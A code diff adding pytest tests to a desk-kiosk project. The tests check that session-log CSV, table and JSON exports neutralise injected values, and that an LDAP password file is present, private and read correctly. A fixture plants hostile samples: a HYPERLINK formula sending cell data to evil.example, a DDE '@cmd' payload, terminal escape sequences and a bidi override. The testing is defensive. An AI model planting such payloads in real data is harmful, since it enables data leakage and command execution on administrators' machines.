@@ -82,3 +82,151 @@ def test_outside_systemd_the_kiosk_keeps_its_files_in_a_folder_of_its_own(tmp_pa
     info = private.stat()
     assert info.st_uid == os.geteuid() and info.st_mode & 0o777 == 0o700
     assert home.stat().st_mode & 0o777 == 0o700
+
+
+# --- the session log's exports and tables ------------------------------------------------------
+
+
+def _kiosk(*args, env=None, input=None):
+    environment = {k: v for k, v in os.environ.items() if k != "HOTDESK_CONFIG"}
+    environment.update(env or {})
+    return subprocess.run([sys.executable, "-m", "kiosk", *args], capture_output=True,
+                          text=True, timeout=120, cwd=ROOT, env=environment, input=input)
+
+
+@pytest.fixture
+def hostile_log(tmp_path):
+    """A session log holding what the server and the people at the screen put there: an agent
+    name that is a spreadsheet formula (from the Call Center's profile), a name with terminal
+    escapes, an event detail with a bidi override."""
+    from kiosk.sessionlog import SessionLog
+
+    path = tmp_path / "sessions.db"
+    with SessionLog(path, desk="desk12") as log:
+        one = log.begin_session("mai@corp.example.au",
+                                agent_name='=HYPERLINK("http://evil.example/?"&A1,"Mai")')
+        log.end_session(one, "agent")
+        two = log.begin_session("zoe@corp.example.au",
+                                agent_name="+SUM(1,2)\x1b[2J\x1b]0;owned\x07")
+        log.end_session(two, "agent")
+        log.record("warning", two, policy="@cmd|' /C calc'!A0", note="abc\u202edef")
+    return path
+
+
+def test_every_csv_cell_is_text_to_a_spreadsheet(hostile_log):
+    """Found: =HYPERLINK(…) and +SUM(…) cells from an agent's name reached a spreadsheet."""
+    import csv
+    import io
+
+    for command in (["sessions"], ["events"], ["stats", "--by", "agent"]):
+        result = _kiosk(*command, "--db", str(hostile_log), "--format", "csv")
+        assert result.returncode == 0, result.stderr
+        for row in csv.reader(io.StringIO(result.stdout)):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (command, cell)
+    sessions = _kiosk("sessions", "--db", str(hostile_log), "--format", "csv").stdout
+    assert "'=HYPERLINK" in sessions and "'+SUM(1,2)" in sessions  # kept, as text
+
+
+def test_a_terminal_table_shows_escapes_instead_of_obeying_them(hostile_log):
+    """Found: CR/LF, terminal escapes and bidi overrides reached an administrator's terminal
+    unescaped (a cleared screen, a rewritten title, reordered text)."""
+    for command in (["sessions", "--db", str(hostile_log)], ["events", "--db", str(hostile_log)],
+                    ["sessions", "--db", str(hostile_log), "show", "2"]):
+        result = _kiosk(*command)
+        assert result.returncode == 0, result.stderr
+        for bad in ("\x1b", "\x07", "\u202e", "\r"):
+            assert bad not in result.stdout, (command, bad)
+    shown = _kiosk("events", "--db", str(hostile_log)).stdout
+    assert "\\u202e" in shown
+    assert "\\u001b" in _kiosk("sessions", "--db", str(hostile_log), "show", "2").stdout
+
+
+def test_json_output_stays_json_with_escapes(hostile_log):
+    import json
+
+    result = _kiosk("sessions", "--db", str(hostile_log), "--format", "json")
+    names = [row["agent_name"] for row in json.loads(result.stdout)]
+    assert "+SUM(1,2)\x1b[2J\x1b]0;owned\x07" in names  # the data, exactly
+    assert "\x1b" not in result.stdout
+
+
+# --- the directory's password -----------------------------------------------------------------
+
+LDAP = """
+[desk]
+id = "desk12"
+host_user_id = "desk12@corp.example.au"
+
+[callcenter]
+url = "https://xsp.example.au/com.broadsoft.xsi-actions/v2.0"
+
+[badge]
+table = "{tmp}/badges.json"
+key_file = "{tmp}/badge-key"
+ldap_url = "ldaps://directory.corp.example"
+ldap_bind_dn = "cn=kiosk,ou=services,dc=corp,dc=example"
+ldap_base = "ou=people,dc=corp,dc=example"
+{extra}
+"""
+
+
+def _ldap_config(tmp_path, extra=""):
+    path = tmp_path / "kiosk.toml"
+    path.write_text(LDAP.format(tmp=tmp_path, extra=extra))
+    (tmp_path / "host-password").write_text("host-secret")
+    (tmp_path / "host-password").chmod(0o600)
+    return path
+
+
+def test_a_missing_directory_password_is_named_by_config_check_and_doctor(tmp_path):
+    """Found: a missing `ldap_password_file` stopped the whole kiosk (restarted every 3 s)
+    while `config check` said OK and `doctor` said nothing."""
+    from kiosk import config as configuration
+    from kiosk.badges import BadgeTable, DirectoryUnavailable, resolver_for
+    from kiosk.doctor import directory_check
+
+    path = _ldap_config(tmp_path, f'ldap_password_file = "{tmp_path}/ldap-password"')
+    result = _kiosk("config", "check", str(path))
+    assert result.returncode != 0
+    assert "badge.ldap_password_file" in result.stdout + result.stderr
+    assert "does not exist" in result.stdout + result.stderr
+    config = configuration.load(path)
+    BadgeTable(tmp_path / "badges.json", key_file=tmp_path / "badge-key").add(
+        "0004521788", "mai@corp.example.au")
+    resolve = resolver_for(config, environ={})  # the kiosk starts; the table still works
+    assert resolve("0004521788") == ("mai@corp.example.au", "table")
+    with pytest.raises(DirectoryUnavailable, match="does not exist"):
+        resolve("11112222")  # said on the screen as an outage, not "unknown"
+    check = directory_check(config, {})
+    assert not check.ok and "does not exist" in check.detail
+
+
+def test_the_directory_password_file_must_be_private(tmp_path):
+    from kiosk import config as configuration
+
+    secret = tmp_path / "ldap-password"
+    secret.write_text("bind-secret\n")
+    secret.chmod(0o644)
+    path = _ldap_config(tmp_path, f'ldap_password_file = "{secret}"')
+    problems = configuration.check_files(configuration.load(path), environ={})
+    assert any("readable by group or others" in str(p) and "chmod 600" in str(p)
+               for p in problems)
+    secret.chmod(0o600)
+    assert configuration.check_files(configuration.load(path), environ={}) == []
+
+
+def test_the_service_reads_the_directory_password_as_a_credential(tmp_path):
+    from kiosk import config as configuration
+
+    credentials = tmp_path / "credentials"
+    credentials.mkdir()
+    (credentials / "ldap-password").write_text("bind-secret\n")
+    config = configuration.load(_ldap_config(tmp_path))
+    password = configuration.ldap_password(config,
+                                           environ={"CREDENTIALS_DIRECTORY": str(credentials)})
+    assert password.reveal() == "bind-secret"
+    # an empty credential (install.sh's default) with a bind DN: named, not an anonymous bind
+    (credentials / "ldap-password").write_text("")
+    with pytest.raises(configuration.ConfigError, match="is empty"):
+        configuration.ldap_password(config, environ={"CREDENTIALS_DIRECTORY": str(credentials)})
